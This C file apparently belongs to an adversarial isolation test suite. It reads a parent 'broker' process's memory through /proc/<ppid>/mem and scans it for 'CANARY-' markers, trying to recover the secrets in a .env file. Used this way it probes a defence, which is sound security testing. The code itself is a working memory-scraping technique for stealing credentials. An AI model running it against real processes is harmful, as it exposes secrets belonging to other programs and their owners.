// technique: read the broker's memory through /proc/<ppid>/mem (and task/<tid>/mem), hunting for the raw .env
// fast: yes
#include "adv.h"
int main(void) {
	pid_t pp = getppid();
	system("cat .env >/dev/null");
	char p[64], line[512];
	const char *fmt[] = {"/proc/%d/mem", "/proc/%d/task/%d/mem"};
	for (int k = 0; k < 2; k++) {
		snprintf(p, sizeof p, fmt[k], pp, pp);
		int mem = open(p, O_RDONLY);
		printf("%s: %s\n", p, mem < 0 ? strerror(errno) : "OPENED");
		if (mem < 0) continue;
		snprintf(p, sizeof p, "/proc/%d/maps", pp);
		FILE *f = fopen(p, "r");
		static char buf[1 << 20];
		while (f && fgets(line, sizeof line, f)) {
			unsigned long a, b; char perm[8];
			if (sscanf(line, "%lx-%lx %7s", &a, &b, perm) != 3 || perm[0] != 'r') continue;
			for (unsigned long o = a; o < b; o += sizeof buf) {
				ssize_t n = pread(mem, buf, (b - o) < sizeof buf ? b - o : sizeof buf, o);
				for (ssize_t i = 0; i + 7 < n; i++)
					if (!memcmp(buf + i, "CANARY-", 7)) printf("found: %.40s\n", buf + i);
			}
		}
	}
	return 0;
}
